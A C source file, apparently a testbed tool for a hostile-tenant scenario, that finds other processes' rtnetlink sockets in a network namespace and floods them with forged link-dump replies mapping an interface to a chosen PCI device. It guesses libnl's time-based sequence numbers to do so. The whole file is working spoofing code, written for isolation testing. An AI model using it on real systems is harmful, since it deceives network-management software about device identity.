/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A tenant forging rtnetlink answers, for the testbed's hostile-tenant case: run in the
 * tenant's network namespace (with CAP_NET_ADMIN over it only), it watches for rtnetlink sockets
 * of other processes there (/proc/self/net/netlink lists this namespace's) and sends each, from
 * its own socket, link dump replies saying that netdev IFNAME of this namespace is the netdev of
 * PCI device PCI. The sequence number is the one libnl 3.7 starts a socket at, the time.
 *   nl-forge PCI IFNAME SECONDS   prints "sockets M, forged answers taken N" at the end (the
 *                                 kernel refuses datagrams to a socket connected to it)
 */
#include <errno.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <linux/if_link.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>

#define MAX_PORTS 64

static size_t put_attr(char *buf, size_t off, unsigned short type, const char *s)
{
        struct rtattr *a = (struct rtattr *)(buf + off);

        a->rta_type = type;
        a->rta_len = RTA_LENGTH(strlen(s) + 1);
        memcpy(RTA_DATA(a), s, strlen(s) + 1);
        return off + RTA_ALIGN(a->rta_len);
}

/* One RTM_NEWLINK of a dump, as the kernel would send it. */
static size_t forge(char *buf, int ifindex, const char *ifname, const char *pci, uint32_t port)
{
        struct nlmsghdr *nlh = (struct nlmsghdr *)buf;
        struct ifinfomsg *ifi = NLMSG_DATA(nlh);
        size_t off = NLMSG_LENGTH(sizeof(*ifi));

        memset(buf, 0, 512);
        ifi->ifi_family = AF_UNSPEC;
        ifi->ifi_index = ifindex;
        off = put_attr(buf, NLMSG_ALIGN(off), IFLA_IFNAME, ifname);
        off = put_attr(buf, off, IFLA_PARENT_DEV_NAME, pci);
        off = put_attr(buf, off, IFLA_PARENT_DEV_BUS_NAME, "pci");
        nlh->nlmsg_len = (uint32_t)off;
        nlh->nlmsg_type = RTM_NEWLINK;
        nlh->nlmsg_flags = NLM_F_MULTI;
        nlh->nlmsg_seq = (uint32_t)time(NULL);
        nlh->nlmsg_pid = port;
        return off;
}

/* The ports of this namespace's NETLINK_ROUTE sockets other than @self. */
static size_t route_ports(uint32_t self, uint32_t *ports)
{
        FILE *f = fopen("/proc/self/net/netlink", "r");
        char line[256];
        size_t n = 0;

        if (!f)
                return 0;
        while (fgets(line, sizeof(line), f) && n < MAX_PORTS) {
                unsigned long long sk;
                unsigned int proto, port;

                if (sscanf(line, "%llx %u %u", &sk, &proto, &port) == 3 && proto == NETLINK_ROUTE &&
                    port != 0 && port != self)
                        ports[n++] = port;
        }
        fclose(f);
        return n;
}

int main(int argc, char **argv)
{
        struct sockaddr_nl me = { .nl_family = AF_NETLINK };
        socklen_t len = sizeof(me);
        uint32_t ports[MAX_PORTS], targets[MAX_PORTS];
        size_t n_targets = 0;
        unsigned long taken = 0;
        time_t end;
        int fd, ifindex;
        char buf[512];

        if (argc != 4) {
                fprintf(stderr, "usage: nl-forge PCI IFNAME SECONDS\n");
                return 2;
        }
        ifindex = (int)if_nametoindex(argv[2]);
        fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
        if (!ifindex || fd < 0 || bind(fd, (struct sockaddr *)&me, sizeof(me)) < 0 ||
            getsockname(fd, (struct sockaddr *)&me, &len) < 0) {
                fprintf(stderr, "nl-forge: %s: %s\n", argv[2], strerror(errno));
                return 1;
        }
        end = time(NULL) + atoi(argv[3]);
        while (time(NULL) < end) {
                size_t n = route_ports(me.nl_pid, ports);

                for (size_t i = 0; i < n; i++) {
                        struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = ports[i] };
                        size_t size = forge(buf, ifindex, argv[2], argv[1], ports[i]);
                        bool known = false;

                        for (size_t k = 0; k < n_targets && !known; k++)
                                known = targets[k] == ports[i];
                        if (!known && n_targets < MAX_PORTS)
                                targets[n_targets++] = ports[i];
                        if (sendto(fd, buf, size, MSG_DONTWAIT, (struct sockaddr *)&to,
                                   sizeof(to)) >= 0)
                                taken++;
                }
        }
        printf("sockets %zu, forged answers taken %lu\n", n_targets, taken);
        return 0;
}
